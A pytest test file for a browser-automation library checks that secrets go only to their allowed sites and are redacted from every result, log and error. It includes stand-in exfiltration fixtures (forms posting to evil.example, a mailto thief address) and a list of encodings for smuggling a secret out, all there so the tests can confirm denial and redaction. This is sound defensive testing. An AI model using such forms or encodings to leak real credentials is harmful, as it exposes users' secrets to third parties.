"""Secrets: put in only for the site that may have them, and out of everything that comes back."""

import asyncio
import base64
import html
import json
import re
import string
from collections.abc import Awaitable, Callable, Mapping
from random import Random
from typing import Any
from urllib.parse import quote, quote_plus, urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from webhand.browser import Tab
from webhand.controller import ActionContext, ActionResult, Controller
from webhand.controller.redact import redacted, revealed, without_secrets
from webhand.errors import ActionDenied, InvalidArguments
from webhand.secrets import Secret

At = Callable[..., Awaitable[Tab]]

VALUE = "hunter2 & 'co' \"ü\\"
FIELD = "<input aria-label=Word>"


async def run(tab: Tab, call: Mapping[str, Any], *origins: str, events: list[Any] | None = None) -> ActionResult:
    async def emit(kind: str, data: Mapping[str, Any]) -> None:
        if events is not None:
            events.append((kind, json.dumps(data)))

    secrets = {"word": Secret(VALUE, origins=origins)}
    return await Controller().execute(call, tab, ActionContext(secrets=secrets, emit=emit))


TYPED = {"type": {"ref": "e1", "text": "<secret:word>"}}


async def test_a_secret_is_typed_on_its_own_site_and_told_to_nobody(at: At, port: int) -> None:
    tab, events = await at(FIELD), list[Any]()
    result = await run(tab, TYPED, f"HTTP://127.0.0.1:{port}/", events=events)
    assert result.ok
    assert await tab.page.locator("input").input_value() == VALUE
    assert result.data == "<secret:word>"
    told = result.model_dump_json() + str(events)
    assert "hunter2" not in told
    assert "<secret:word>" in events[0][1]


async def test_a_secret_stays_out_of_what_is_told_about_a_field_that_cuts_it(at: At, port: int) -> None:
    result = await run(
        await at("<input aria-label=Word value='x '>"),
        {"type": {**TYPED["type"], "clear": False}},
        f"http://127.0.0.1:{port}",
    )
    assert result.text == "typed into textbox \"Word\"; it holds 'x <secret:word>' now"


@pytest.mark.parametrize("origin", ["http://localhost:{port}", "https://127.0.0.1:{port}", "http://127.0.0.1", ""])
async def test_a_secret_of_another_site(at: At, port: int, origin: str) -> None:
    tab = await at(FIELD)
    result = await run(tab, TYPED, *([origin.format(port=port)] if origin else []))
    assert (result.ok, result.error) == (False, "ActionDenied")
    assert result.text == f"secret 'word' may not be used on http://127.0.0.1:{port}"
    assert await tab.page.locator("input").input_value() == ""


async def test_an_unknown_secret(at: At, port: int) -> None:
    result = await run(await at(FIELD), {"type": {"ref": "e1", "text": "<secret:pin>"}}, f"http://127.0.0.1:{port}")
    assert (result.error, result.text) == ("InvalidArguments", "there is no secret 'pin'; there are word")


def framed(port: int, host: str, more: str = "") -> str:
    return f"<iframe {more} src='http://{host}:{port}/?{urlencode({'html': FIELD})}'></iframe>"


@pytest.mark.parametrize(("page", "frame"), [("127.0.0.1", "localhost"), ("localhost", "127.0.0.1")])
async def test_what_counts_is_the_site_of_the_frame(at: At, port: int, page: str, frame: str) -> None:
    tab = await at(framed(port, frame), host=page)
    result = await run(tab, {"type": {"ref": "f2e1", "text": "<secret:word>"}}, f"http://{frame}:{port}")
    assert result.ok
    result = await run(tab, {"type": {"ref": "f2e1", "text": "<secret:word>"}}, f"http://{page}:{port}")
    assert result.error == "ActionDenied"
    assert result.text == f"secret 'word' may not be used on http://{frame}:{port}"


async def test_a_frame_without_an_address_belongs_to_its_page_and_a_sandboxed_one_to_nobody(at: At, port: int) -> None:
    call, site = {"type": {"ref": "f2e1", "text": "<secret:word>"}}, f"http://127.0.0.1:{port}"
    assert (await run(await at(f"<iframe srcdoc='{FIELD}'></iframe>"), call, site)).ok
    tab = await at(f"<iframe sandbox srcdoc='{FIELD}'></iframe>")
    result = await run(
        tab, {"type": {"ref": next(iter((await tab.observe()).elements)), "text": "<secret:word>"}}, site
    )
    assert result.text == "secret 'word' may not be used on this page"


async def test_an_address_gets_the_secrets_of_where_it_leads(at: At, port: int) -> None:
    tab = await at("")
    here, there = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
    result = await run(tab, {"navigate": {"url": f"{there}/?html=<secret:word>"}}, here)
    assert result.text == f"secret 'word' may not be used on {there}"
    result = await run(tab, {"navigate": {"url": f"{there}/?html=<secret:word>"}}, there)
    assert result.ok
    assert "hunter2" in tab.url
    assert "hunter2" not in result.model_dump_json()
    result = await run(tab, {"navigate": {"url": "data:text/html,<secret:word>"}}, there)
    assert result.error == "ActionDenied"


async def test_what_changes_nothing_is_given_no_secret(at: At, port: int) -> None:
    tab = await at(f"<p>{VALUE}</p>")
    site = f"http://127.0.0.1:{port}"
    assert (await run(tab, {"find": {"text": "<secret:word>"}}, site)).text == '"<secret:word>" is not on the page'
    result = await run(tab, {"done": {"answer": "it is <secret:word>"}}, site)
    assert result.data["answer"] == "it is <secret:word>"


async def test_a_page_that_shows_a_secret(at: At, port: int) -> None:
    result = await run(await at("<p>it is hunter2 &amp; 'co' \"ü\\</p>"), {"read": {}}, f"http://127.0.0.1:{port}")
    assert result.text == "it is <secret:word>"
    assert result.data == "it is <secret:word>"


async def test_an_own_action_raises_with_a_secret_in_it(at: At) -> None:
    controller = Controller()

    @controller.action("Fails")
    async def fails(context: ActionContext) -> None:
        raise ValueError(f"wrong: {context.secrets['word'].reveal()}")

    assert fails
    result = await controller.execute({"fails": {}}, await at(""), ActionContext(secrets={"word": Secret(VALUE)}))
    assert result.text == "ValueError: wrong: <secret:word>"


async def test_a_name_may_have_dots(at: At, port: int) -> None:
    tab, site = await at(FIELD), f"http://127.0.0.1:{port}"
    context = ActionContext(secrets={"shop.pw": Secret(VALUE, origins=[site])})
    result = await Controller().execute({"type": {"ref": "e1", "text": "<secret:shop.pw>"}}, tab, context)
    assert (result.ok, result.data) == (True, "<secret:shop.pw>")
    assert await tab.page.locator("input").input_value() == VALUE


class _Card(BaseModel):
    number: str
    name: str = "Anna"


async def test_secrets_at_any_depth() -> None:
    x = ["https://x.example"]
    secrets = {"a": Secret("1", origins=x), "b": Secret(lambda: "2", origins=x)}
    value = ["<secret:a>", ("<secret:b>", 3), {"key": "x<secret:a><secret:b>"}, _Card(number="<secret:b>"), None]
    assert await revealed(value, secrets, x) == ["1", ("2", 3), {"key": "x12"}, _Card(number="2"), None]
    with pytest.raises(ActionDenied):
        await revealed({"deep": [_Card(number="<secret:a>")]}, secrets, ["https://y.example"])
    with pytest.raises(InvalidArguments):
        await revealed("<secret:c>", secrets, x)
    assert await revealed(["nothing"], secrets, [""]) == ["nothing"]


async def test_every_site_that_gets_it_has_to_be_allowed_before_any_secret_is_fetched() -> None:
    x, fetched = "https://x.example", list[str]()

    def fetch() -> str:
        fetched.append("a")
        return "opensesame"

    secrets = {"a": Secret(fetch, origins=[x]), "b": Secret("2", origins=["https://y.example"])}
    with pytest.raises(ActionDenied, match="'a' may not be used on https://y.example"):
        await revealed("<secret:a>", secrets, [x, "https://y.example"])
    with pytest.raises(ActionDenied, match="'b' may not be used on https://x.example"):
        await revealed("<secret:a><secret:b>", secrets, [x])
    assert fetched == []
    assert await revealed("<secret:a> <secret:a>", secrets, [x]) == "opensesame opensesame"
    assert fetched == ["a"]


async def test_a_value_that_a_function_brings_is_asked_for_when_it_is_typed(at: At, port: int) -> None:
    values = iter(["first-word", "second-word"])

    async def fetch() -> str:
        return next(values)

    secrets = {"word": Secret(fetch, origins=[f"http://127.0.0.1:{port}"])}
    tab, context = await at("<input aria-label=Word>"), ActionContext(secrets=secrets)
    assert redacted("first-word", secrets) == "first-word", "nobody knows it yet, and nobody asked for it"
    for value in ("first-word", "second-word"):
        assert (await Controller().execute(TYPED, tab, context)).ok
        assert await tab.page.locator("input").input_value() == value
    assert redacted("first-word, second-word", secrets) == "<secret:word>, <secret:word>"


@pytest.mark.parametrize("how", ["raises", "nothing", "no text", "never", "async"])
async def test_a_value_that_does_not_come_is_told_without_its_text(at: At, port: int, how: str) -> None:
    def fetch() -> Any:
        if how in ("nothing", "no text"):
            return "" if how == "nothing" else 123456
        raise LookupError("hunter22 is wrong")

    async def waits() -> str:
        if how == "never":
            await asyncio.Event().wait()
        raise LookupError("hunter22 is wrong")

    value = waits if how in ("never", "async") else fetch
    controller = Controller()
    controller.action_timeout = 2.0
    context = ActionContext(secrets={"word": Secret(value, origins=[f"http://127.0.0.1:{port}"])})
    tab = await at("<input aria-label=Word>")
    result = await controller.execute(TYPED, tab, context)
    why = ": its function brought no text, or an empty one" if how in ("nothing", "no text") else " (LookupError)"
    told = f"secret 'word' could not be fetched{why}; go on without it, or end with done and say so"
    assert result.text == ("a secret did not come within 2 s; nothing was done" if how == "never" else told)
    assert result.error == "ActionError"
    assert await tab.page.locator("input").input_value() == ""


FORMS = {
    "elsewhere": ("<form action='http://localhost:{port}/x'>{field}</form>", "http://localhost:{port}"),
    "by a button": (
        "<form>{field}<button formaction='//localhost:{port}'>Go</button></form>",
        "http://localhost:{port}",
    ),
    "by post": ("<form id=f method=post action='https://evil.example/'></form>{field:f}", "https://evil.example"),
    "by mail": ("<form action='mailto:thief@evil.example'>{field}</form>", "this page"),
    "disguised": (
        "<form action='https://evil.example/'><input name=action><input name=elements>{field}</form>",
        "https://evil.example",
    ),
}


@pytest.mark.parametrize("form", FORMS)
async def test_a_field_whose_form_sends_it_elsewhere_is_given_no_secret(at: At, port: int, form: str) -> None:
    html, to = FORMS[form]
    field = "<input aria-label=Word id=w>"
    html = html.replace("{field:f}", field.replace("<input", "<input form=f")).replace("{field}", field)
    tab = await at(html.replace("{port}", str(port)))
    ref = next(one.ref for one in (await tab.observe()).elements.values() if one.name == "Word")
    result = await run(tab, {"type": {"ref": ref, "text": "<secret:word>"}}, f"http://127.0.0.1:{port}")
    assert result.text == f"secret 'word' may not be used on {to.format(port=port)}"
    assert await tab.page.locator("#w").input_value() == ""


async def test_a_form_that_stays_on_the_site_or_is_sent_by_script_gets_its_secret(at: At, port: int) -> None:
    for action in ("", "/login", "javascript:void 0", "http://"):
        tab = await at(f"<form action='{action}'>{FIELD}</form>")
        (ref,) = (await tab.observe()).elements
        result = await run(tab, {"type": {"ref": ref, "text": "<secret:word>"}}, f"http://127.0.0.1:{port}")
        assert result.ok, result.text


def _spread(value: str) -> str:
    return "".join(f"<i>{sign}</i>" for sign in value)


def _in_script(value: str) -> str:
    return "".join(f"\\u{ord(sign):04x}" for sign in value)


def _b64(value: bytes) -> str:
    return base64.b64encode(value).decode()


WAYS: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "address": quote,
    "form": quote_plus,
    "address, all": lambda value: quote(value, safe=""),
    "address, twice": lambda value: quote(quote(value, safe=""), safe=""),
    "address, small letters": lambda value: re.sub("%..", lambda found: found[0].lower(), quote(value)),
    "address, latin": lambda value: quote(value, encoding="latin-1"),
    "python": repr,
    "json": json.dumps,
    "json in json": lambda value: json.dumps(json.dumps(value)),
    "script": _in_script,
    "html": html.escape,
    "html, numbers": lambda value: "".join(f"&#{ord(sign)};" for sign in value),
    "html, twice": lambda value: html.escape(html.escape(value)),
    "split by tags": _spread,
    "split by markdown": lambda value: f"{value[:3]}**{value[3:9]}**{value[9:]}",
    "split by signs without width": "\u200b".join,
    "a sign a line": "\n".join,
    "hex": lambda value: value.encode().hex(),
    "hex, latin": lambda value: value.encode("latin-1").hex().upper(),
    "base64 1": lambda value: _b64(b"user:" + value.encode()),
    "base64 2": lambda value: base64.urlsafe_b64encode(b"user::" + value.encode() + b"!").decode(),
    "base64 3": lambda value: _b64(value.encode()),
    "base64, latin": lambda value: _b64(value.encode("latin-1")),
    "base64 of json": lambda value: _b64(json.dumps({"word": value}).encode()),
    "base64 of an address": lambda value: _b64(quote(value, safe="").encode()),
    "base64 in an address": lambda value: quote(_b64(value.encode()), safe=""),
}
LONG = "".join(Random(7).choices(string.ascii_letters + string.digits + string.punctuation, k=300))
REST = 34
"""Signs of another text or of the edges of an encoding that may be left of 900 and more."""


@pytest.mark.parametrize("way", WAYS)
def test_however_a_secret_is_written(way: str) -> None:
    written = WAYS[way](VALUE)
    text = redacted(f"a {written} b", {"word": Secret(VALUE)})
    assert "<secret:word>" in text
    assert "hunter2" not in text
    assert len(text) < len("a <secret:word> b") + 22


@pytest.mark.parametrize("way", [way for way in WAYS if "latin" not in way])
def test_however_a_long_secret_is_written(way: str) -> None:
    secrets, written = {"key": Secret(LONG)}, WAYS[way](LONG)
    text = redacted(written, secrets)
    assert text.count("<secret:key>") == 1
    assert len(text) < len("<secret:key>") + REST
    for part in (written[: len(written) // 2], written[-len(written) // 2 :]):  # texts are cut
        text = redacted(part, secrets)
        assert "<secret:key>" in text
        assert len(text.replace("<secret:key>", "")) < REST + 16 * len(written) / len(LONG)


def test_a_secret_that_is_cut_by_dots() -> None:
    assert redacted("the word is hunter2 & 'c…", {"word": Secret(VALUE)}) == "the word is <secret:word>…"
    assert redacted("hunting is no secret…", {"word": Secret(VALUE)}) == "hunting is no secret…"


def test_a_one_time_code_is_a_number_of_its_own() -> None:
    secret = Secret.totp("JBSWY3DPEHPK3PXP", now=lambda: 59.0)
    code = secret.reveal()
    secrets = {"code": secret}
    for written in (
        code,
        f"{code[:3]} {code[3:]}",
        f"{code[:3]}-{code[3:]}",
        f"code={code}&x",
        f"x{code}y",
        _spread(code),
    ):
        assert code not in redacted(written, secrets)
        assert "<secret:code>" in redacted(written, secrets)
    for other in (f"1{code}", f"{code}0", f"{code[:3]}.{code[3:]}"):
        assert redacted(other, secrets) == other


def test_secrets_that_hold_each_other_are_empty_or_short() -> None:
    secrets = {"a": Secret("pass"), "b": Secret("password"), "c": Secret(lambda: "")}
    assert redacted("my password, my pass", secrets) == "my <secret:b>, my <secret:a>"


@given(st.text(min_size=6), st.text(), st.text())
def test_no_secret_comes_through(value: str, before: str, after: str) -> None:
    secrets = {"s": Secret(value)}
    for text in (before + value + after, before + quote(value, safe="") + after):
        cleaned = without_secrets({"deep": [text]}, secrets)["deep"][0]
        assert value not in cleaned.replace("<secret:s>", "\0") or value in "<secret:s>"
